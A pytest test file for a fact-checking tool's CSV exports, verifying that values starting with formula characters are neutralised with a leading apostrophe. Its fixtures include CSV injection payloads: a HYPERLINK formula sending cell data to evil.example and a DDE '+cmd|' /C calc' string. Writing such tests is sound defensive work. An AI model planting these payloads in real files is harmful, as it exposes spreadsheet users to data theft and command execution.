"""No CSV statecheck writes carries a live spreadsheet formula (CSV injection).

A statement's title, issuers, quote or file name starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is written with a leading ``'``; numbers stay numbers. Checked for every
CSV writer: ``statecheck export --format csv`` (claims), ``export --what … --format csv`` (the
corpus views) and, in tests/web, the ``/claims.csv`` download.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from store_samples import document

from statecheck import csvsafe
from statecheck.corpus.exports import export_view
from statecheck.model import Card, Claim, Demand
from statecheck.store import Store, save_document
from statecheck.store.formats import export

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ISSUERS = ("@SUM(1+1)", "+cmd|' /C calc'!A0", "\t=1+1")
TEXT = "Gaza, 1 May 2024. 35,000 people were killed. -We demand =1+1 now."


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-inf", "'-inf"), ("--5", "'--5"), ("-", "'-"),
        ("-5", "-5"), ("+3.2", "+3.2"), ("-.5", "-.5"), ("1e-3", "1e-3"), ("-2E+4", "-2E+4"),
        ("plain", "plain"), ("a=b", "a=b"), (" =1", " =1"), ("", ""), (-5, -5), (3.5, 3.5), (None, None),
    ],
)
def test_inert_cell(value: object, written: object) -> None:
    assert csvsafe.inert_cell(value) == written


def test_dict_writer_makes_every_row_inert() -> None:
    buffer = io.StringIO()
    writer = csvsafe.DictWriter(buffer, fieldnames=["a", "b"])
    writer.writeheader()
    writer.writerow({"a": "=1", "b": -1})
    writer.writerows([{"a": "@x", "b": "ok"}])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["a", "b"], ["'=1", "-1"], ["'@x", "ok"]]


def hostile_document() -> object:
    start = TEXT.index("35,000")
    claim = Claim(doc="formula", quote="35,000 people were killed", value=35000, metric="killed",
                  start=start, end=start + 25, note="=cmd")
    demand_start = TEXT.index("-We demand")
    demand = Demand(doc="formula", quote="-We demand =1+1 now.", categories=("ceasefire",),
                    start=demand_start, end=demand_start + 20, addressee="=ADDRESSEE()")
    card = Card(doc="formula", title=FORMULA, date="2024-05-01", issuers=ISSUERS, language="en")
    return document("formula", TEXT, card, (claim,), (demand,), location="-2+3.txt")


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def live(rows: list[dict[str, str]]) -> list[str]:
    return [value for row in rows for value in row.values()
            if value and value.startswith(csvsafe.FORMULA_START) and not csvsafe._NUMBER.fullmatch(value)]


def test_export_csv_writes_formulas_as_text(store: Store, tmp_path: Path) -> None:
    save_document(store, hostile_document())  # type: ignore[arg-type]
    out = tmp_path / "claims.csv"
    assert export(store, "csv", out) == 1
    (row,) = cells(out)
    assert row["title"] == "'" + FORMULA
    assert row["location"] == "'-2+3.txt"
    assert row["issuers"] == "'" + "; ".join(ISSUERS)
    assert row["note"] == "'=cmd"
    assert float(row["value"]) == 35000 and row["start"].isdigit()  # numbers stay numbers
    assert not live([row])


@pytest.mark.parametrize("what", ["issuers", "demands", "mentions", "links", "matrix"])
def test_export_views_write_formulas_as_text(store: Store, tmp_path: Path, what: str) -> None:
    save_document(store, hostile_document())  # type: ignore[arg-type]
    out = tmp_path / f"{what}.csv"
    export_view(store, what, "csv", out)
    rows = cells(out)
    assert not live(rows), rows
    if what == "issuers":
        assert {row["name"] for row in rows} >= {"'" + issuer for issuer in ISSUERS[:2]}
    if what == "demands":
        assert rows[0]["quote"] == "'-We demand =1+1 now."


def test_check_csv_writes_formulas_as_text(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from statecheck.cli import app

    path = tmp_path / "=1+1.txt"  # the doc column is the file name
    path.write_text("In Gaza, 1,200 people were killed, the ministry said on 7 November 2023.", encoding="utf-8")
    result = CliRunner().invoke(app, ["check", str(path), "--format", "csv", "--no-verify", "--workers", "1"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and rows[0]["doc"] == "'=1+1"
